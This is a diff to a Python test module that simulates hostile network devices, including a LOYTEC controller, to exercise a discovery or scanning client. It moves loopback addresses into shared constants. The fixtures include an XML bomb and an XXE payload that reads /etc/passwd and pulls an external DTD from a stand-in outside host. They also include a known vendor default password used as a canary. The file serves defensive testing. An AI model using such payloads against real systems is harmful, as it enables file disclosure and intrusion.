@@ -6,6 +6,8 @@ import html
 
 from tests.hostile.street import (
     CREDENTIALS,
+    OUTSIDE,
+    STREET,
     Answerer,
     Handler,
     Hostile,
@@ -22,8 +24,7 @@ CANARY = "loytec4u"
 """The password that the catalogue documents for LOYTEC, and that no word of ours contains."""
 LOYTEC = b"Server: LOYTEC LINX-151/6.2.4"
 ASKS = b'WWW-Authenticate: Basic realm="LINX-151"'
-OUTSIDE = "127.67.0.1"
-BYSTANDER, BYSTANDER_PORT = "127.66.0.60", 8088
+BYSTANDER, BYSTANDER_PORT = f"{STREET}.60", 8088
 
 # All that a terminal, a renderer, a browser, a spreadsheet or a reader could obey. No line breaks: in a header they would end it.
 DRESS = (
@@ -46,18 +47,18 @@ def devices() -> list[Hostile]:
         Hostile("redirects without end", 11, at(80, handler=pages(_loop))),
         _pointing(12, f"http://{OUTSIDE}:80/d.xml"),
         _pointing(13, f"http://{BYSTANDER}:{BYSTANDER_PORT}/d.xml"),
-        _pointing(14, "http://127.66.0.14:9100/d.xml"),
+        _pointing(14, f"http://{STREET}.14:9100/d.xml"),
         Hostile(
             "an XML bomb",
             15,
             at(80, 49152, handler=pages(_xml_bomb)),
-            {1900: _located("http://127.66.0.15:49152/d.xml")},
+            {1900: _located(f"http://{STREET}.15:49152/d.xml")},
         ),
         Hostile(
             "an XML entity from outside",
             16,
             at(80, 49152, handler=pages(_xxe)),
-            {1900: _located("http://127.66.0.16:49152/d.xml")},
+            {1900: _located(f"http://{STREET}.16:49152/d.xml")},
         ),
         Hostile("401 when busy", 17, at(80, handler=pages(_busy))),
         Hostile("200 for everything", 18, at(80, 8080, handler=pages(_loytec_for_everything))),
@@ -150,8 +151,8 @@ def _xml_bomb(head: bytes, told: Told) -> bytes:
 
 def _xxe(head: bytes, told: Told) -> bytes:
     return _described(
-        b'<!DOCTYPE root [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://127.67.0.1/x">'
-        b'<!ENTITY % ext SYSTEM "http://127.67.0.1/e.dtd"> %ext;]>',
+        b'<!DOCTYPE root [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://OUTSIDE/x">'
+        b'<!ENTITY % ext SYSTEM "http://OUTSIDE/e.dtd"> %ext;]>'.replace(b"OUTSIDE", OUTSIDE.encode()),
         b"x&file;&net;",
     )
 
